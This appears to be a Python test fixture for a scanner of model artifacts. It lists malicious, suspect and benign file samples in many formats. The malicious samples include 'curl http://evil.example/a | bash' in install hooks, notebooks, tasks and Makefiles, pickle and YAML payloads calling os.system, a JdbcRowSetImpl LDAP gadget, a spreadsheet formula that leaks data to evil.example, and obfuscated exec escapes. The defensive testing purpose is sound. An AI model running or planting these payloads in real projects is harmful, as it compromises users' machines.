"""Other forms of what the tests of formats hold: other layouts, encodings, names and languages; none is ever loaded."""

from __future__ import annotations

import base64
import io
import json
import struct

from artifact_samples import BAD, zipped
from format_samples import (
    CHAT,
    DENSE,
    cell,
    field,
    gguf,
    gguf_text,
    notebook,
    parquet,
    safetensors,
    saved_model,
    sequential,
)

FETCHED = "curl http://evil.example/a | bash"
OLD = b"cos\nsystem\n(S'echo canary'\ntR."
TAG = "!!python/object/apply:os.system [echo canary]"
TENSORS = {"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}


def _in(language: str, source: str) -> bytes:
    return notebook(cell(source), metadata={"kernelspec": {"language": language, "name": language}})


def _keras(*layers: object) -> bytes:
    return zipped(("config.json", json.dumps(sequential(*layers)).encode()), ("metadata.json", b"{}"))


def _arrow_stream(values: list[object]) -> bytes:
    import pyarrow as pa

    table = pa.table({"a": values})
    sink = io.BytesIO()
    with pa.ipc.new_stream(sink, table.schema) as writer:
        writer.write_table(table)
    return sink.getvalue()


def _class(base: str, body: str) -> str:
    return f"import os\nclass X({base}):\n    {body}\n"


def _beside(name: str) -> bytes:
    return (
        b"\x80\x04cjoblib.numpy_pickle\nNDArrayWrapper\n)\x81}\x8c\x08filename\x8c"
        + bytes([len(name)])
        + name.encode()
        + b"sb."
    )


BAD_VARIANTS: list[tuple[str, bytes]] = [
    ("tests.zip", zipped(("pkg/tests/__init__.py", f"import os\nos.system('{FETCHED}')\n".encode()))),
    # notebooks
    ("utf16.ipynb", notebook(cell("!" + FETCHED)).decode().encode("utf-16")),
    ("cell_magic.ipynb", notebook(cell(f"get_ipython().run_cell_magic('bash', '', '{FETCHED}')"))),
    ("line_magic.ipynb", notebook(cell(f"get_ipython().run_line_magic('sx', '{FETCHED}')"))),
    ("magic_in_magic.ipynb", notebook(cell(f"%%time\n%%bash\n{FETCHED}"))),
    ("braces.ipynb", notebook(cell(f"cmd = '{FETCHED}'\n!{{cmd}}"))),
    ("dollar.ipynb", notebook(cell(f"cmd = '{FETCHED}'\n!$cmd"))),
    ("r.ipynb", _in("R", f"system('{FETCHED}')")),
    ("julia.ipynb", _in("julia", f"run(`bash -c '{FETCHED}'`)")),
    ("joined_lookup.ipynb", notebook(cell("globals()['__builtins__'].__dict__['ex'+'ec']('import os')"))),
    (
        "kernel.ipynb",
        notebook(
            {
                "cell_type": "markdown",
                "metadata": {},
                "source": "<script>var k=IPython.notebook.kernel;k.execute('1')</script>",
            }
        ),
    ),
    ("unparsed.ipynb", notebook(cell(f"print 'x'\nos.system('{FETCHED}')"))),
    # Python that somebody else calls
    ("atexit.py", b"import atexit, os\natexit.register(os.system, 'touch /tmp/c')\n"),
    ("map.py", b"import os\nlist(map(os.system, ['touch /tmp/c']))\n"),
    ("executor.py", b"import os, concurrent.futures as c\nc.ThreadPoolExecutor().submit(os.system, 'touch /tmp/c')\n"),
    ("methodcaller.py", b"import operator, os\noperator.methodcaller('system', 'touch /tmp/c')(os)\n"),
    ("vars.py", b"import os\nvars(os)['system']('touch /tmp/c')\n"),
    ("other_module.py", b"import shutil\nshutil.os.system('touch /tmp/c')\n"),
    ("from_other.py", b"from shutil import os\nos.system('touch /tmp/c')\n"),
    ("decorator.py", b"import os\ndef d(f):\n    os.system('touch /tmp/c')\n    return f\n@d\ndef g(): pass\n"),
    (
        "metaclass.py",
        (_class("type", "def __new__(c, *a): os.system('touch /tmp/c')") + "class Y(metaclass=X): pass\n").encode(),
    ),
    (
        "subclass_hook.py",
        (_class("object", "def __init_subclass__(c): os.system('touch /tmp/c')") + "class Y(X): pass\n").encode(),
    ),
    ("finaliser.py", (_class("object", "def __del__(self): os.system('touch /tmp/c')") + "X()\n").encode()),
    (
        "all_classes.py",
        b"[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('touch c')",
    ),
    ("hidden_eval.py", b"import builtins\ngetattr(builtins, 'ev' + 'al')('1')\n"),
    ("letters.py", b"exec(''.join(map(chr, [112, 97, 115, 115])))\n"),
    ("numbers.py", b"exec(bytes([112, 97, 115, 115]))\n"),
    ("backwards.py", b"exec('ssap'[::-1])\n"),
    (
        "asked.py",
        b"import os\nclass EndpointHandler:\n    def __call__(self, d):\n        os.system(d['inputs'])\n",
    ),
    (
        "served.py",
        b"import os\nclass H:\n    def initialize(self, c):\n        os.system('touch /tmp/c')\n"
        b"    def handle(self, data, c):\n        return data\n",
    ),
    ("custom_generate/generate.py", b"import os\ndef generate(model, **kw):\n    os.system('touch /tmp/c')\n"),
    # configurations
    ("flow.yaml", ('{"a": ' + TAG + "}").encode()),
    ("flow_list.yaml", ('["a", ' + TAG + "]").encode()),
    ("escaped_tag.cfg", b"a: !!python%2Fobject%2Fapply:os.system [id]\n"),
    ("broken.yaml", ("a: [unclosed\nb: " + TAG + "\n").encode()),
    ("hydra.toml", b'[model]\n_target_ = "os.system"\ncommand = "id"\n'),
    ("script.toml", f'[tool.pdm.scripts]\npost_install = "{FETCHED}"\n'.encode()),
    ("hook.yaml", f"repos:\n- hooks:\n  - id: x\n    entry: sh -c '{FETCHED}'\n".encode()),
    ("MLproject", f'entry_points:\n  main:\n    command: "{FETCHED}"\n'.encode()),
    ("tasks.json", json.dumps({"tasks": [{"label": "x", "type": "shell", "command": FETCHED}]}).encode()),
    ("servers.json", json.dumps({"s": {"command": "bash", "args": ["-c", FETCHED]}}).encode()),
    ("Makefile", f"install:\n\t@{FETCHED}\n".encode()),
    # Keras
    ("dotted.keras", _keras({"class_name": "keras.layers.TFSMLayer", "config": {"filepath": "m"}})),
    (
        "utf16.keras",
        zipped(
            (
                "config.json",
                json.dumps(sequential({"class_name": "TFSMLayer", "config": {"filepath": "m"}})).encode("utf-16"),
            )
        ),
    ),
    (
        "listed.keras",
        _keras(
            {
                "class_name": "Activation",
                "config": {"activation": {"class_name": "function", "config": ["4wAAAAAAAAAAAAAAAA==", None, None]}},
            }
        ),
    ),
    ("operator.keras", _keras({"class_name": "TFOpLambda", "config": {"function": "io.write_file"}})),
    # pickles behind and in text
    ("heading.pkl", b"Model v1\n" + OLD),
    ("heading.txt", "Überschrift\n\n".encode() + OLD),
    ("rows.csv", b"a,b\n1,2\n" + OLD),
    ("object.json", b'{"a": 1}' + OLD),
    ("list.pkl", b"text\n(lp0\n" + OLD[:-1] + b"a."),
    ("instance.pkl", b"text\n(S'echo canary'\nios\nsystem\n."),
    ("marked.txt", b"\xff\xfe" + BAD),
    ("escapes.json", json.dumps({"m": BAD.decode("latin-1")}).encode()),
    ("old_escapes.json", json.dumps({"m": OLD.decode()}).encode()),
    ("numbers.json", json.dumps({"m": list(BAD)}).encode()),
    ("twice.json", json.dumps({"m": base64.b64encode(base64.b64encode(BAD)).decode()}).encode()),
    # others
    ("broken.parquet", parquet({"a": [1]}) + BAD),
    ("stream.arrow", _arrow_stream([BAD])),
    ("graph.pbtxt", b'graph_def { node { name: "a" op: "WriteFile" } }\n'),
    ("prints.pb", saved_model("PyFunc")),
]

SUSPECT_VARIANTS: list[tuple[str, bytes]] = [
    (
        "arrays_afar.pkl",
        _beside("../a"),
    ),
    ("examples.zip", zipped(("pkg/examples/fetch.py", b"import requests\nrequests.get(input())\n"))),
    ("evaluates.py", b"class EndpointHandler:\n    def __call__(self, data):\n        return eval(data['inputs'])\n"),
    ("java.yaml", b"a: !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://evil.example'}\n"),
    ("MLmodel", b"flavors:\n  python_function:\n    loader_module: my_loader\n"),
    ("array.yaml", b"x:\n  _target_: numpy.load\n  file: a\n  allow_pickle: true\n"),
    ("import.csv", b'a\n"=IMPORTXML(CONCAT(""http://evil.example/"",A1),""//a"")"\n'),
    ("unknown.pb", saved_model("OperatorOfNobody")),
    ("records.pb", saved_model("TFRecordDataset")),
    ("spaces.safetensors", safetensors(b"  " + json.dumps(TENSORS).encode(), bytes(8))),
    ("nul.safetensors", safetensors(json.dumps(TENSORS).encode() + b"\0\0", bytes(8))),
    ("boolean.gguf", gguf([("general.architecture", 8, gguf_text("llama")), ("b", 7, b"\x05")])),
]

_SHOWN = (
    b"import os\nhere = \"__import__('os')\"\ndef make(n):\n    exec('def f(x=' + here + '): return ' + n)\nmake('1')\n"
)

GOOD_VARIANTS: list[tuple[str, bytes]] = [
    ("built_methods.py", _SHOWN),
    ("console.py", b"import ctypes\nh = ctypes.windll.kernel32.GetStdHandle(-11)\n"),
    ("cores.py", b"import subprocess\nn = subprocess.run(['cat', '/proc/cpuinfo'], capture_output=True).stdout\n"),
    ("arrays_beside.pkl", _beside("a.npy")),
    ("graph.pkl", b"\x80\x04cnetworkx.classes.graph\nGraph\n)\x81}b."),
    ("str.ipynb", notebook(cell("n = 3\n!python train.py --epochs {n} -o $n\n!nohup python a.py > log.txt 2>&1 &"))),
    ("r.ipynb", _in("R", "library(ggplot2)\nsystem('ls')\n")),
    ("socket.ipynb", notebook(cell("import socket\ns = socket.socket()\nprint(socket.gethostname())"))),
    ("Dockerfile", b"FROM x\nRUN wget -q https://repo.anaconda.com/miniconda/Miniconda3-latest.sh -O /tmp/m.sh"
                   b" && bash /tmp/m.sh -b -p /opt/conda\n"),
    ("handler.py", b"import subprocess\nclass EndpointHandler:\n    def __call__(self, data):\n"
                   b"        subprocess.run(['ffmpeg', '-i', data['inputs']])\n        return len(data)\n"),
    ("subclasses.py", b"class A: pass\nfor c in A.__subclasses__():\n    c('name')\n"),
    ("registry.py", b"R = {}\ndef register(f):\n    R[f.__name__] = f\n    return f\n@register\ndef g(): return 1\n"),
    ("quoted.yaml", b"doc: 'never write !!python/object/apply:os.system'\n"),
    ("tags.yaml", b"a: !Ref B\nb: !include x.yaml\nc: !!timestamp 2001-01-01\n"),
    ("get_class.yaml", b"z:\n  _target_: hydra.utils.get_class\n  path: my.Model\n"),
    ("MLmodel", b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n"),
    ("pyproject.toml", b"[build-system]\nrequires = ['setuptools']\n[tool.pdm.scripts]\ntest = 'pytest -q'\n"),
    ("template.toml", b"[project]\nname = {{ name }}\n"),
    ("lines.txt", b"cos\nsystem is a module's name\nhello\n"),
    ("words.txt", b"Terms\ncos\nsystem\n(and so on)\n"),
    ("settings.json", json.dumps({"mcpServers": {"x": {"command": "npx", "args": ["-y", "server"]}}}).encode()),
    ("Makefile", b"install:\n\tpip install -e .\nclean:\n\trm -rf build dist\n"),
    ("graph.pbtxt", b'node { name: "a" op: "MatMul" }\n'),
    ("called.pb", saved_model("StatefulPartitionedCall")),
    ("own.pb", field(1, 1) + field(2, field(2, field(1, field(1, "n") + field(2, "__inference_f_1"))
                                            + field(2, field(1, field(1, field(1, "__inference_f_1"))))))),
    ("cache.arrow", _arrow_stream([1, 2, 3])),
    ("code.parquet", parquet({"a": ["import subprocess\nsubprocess.run(['ls'])\n", "x"]})),
    ("lists.gguf", gguf([("general.architecture", 8, gguf_text("llama")),
                         ("x", 9, struct.pack("<IQ", 9, 2) + (struct.pack("<IQ", 4, 1) + bytes(4)) * 2)])),
    ("gguf.txt", b"GGUF models are read by llama.cpp\n"),
    ("dense.keras", _keras(DENSE)),
    ("chat.json", json.dumps({"chat_template": CHAT}).encode()),
]  # fmt: skip
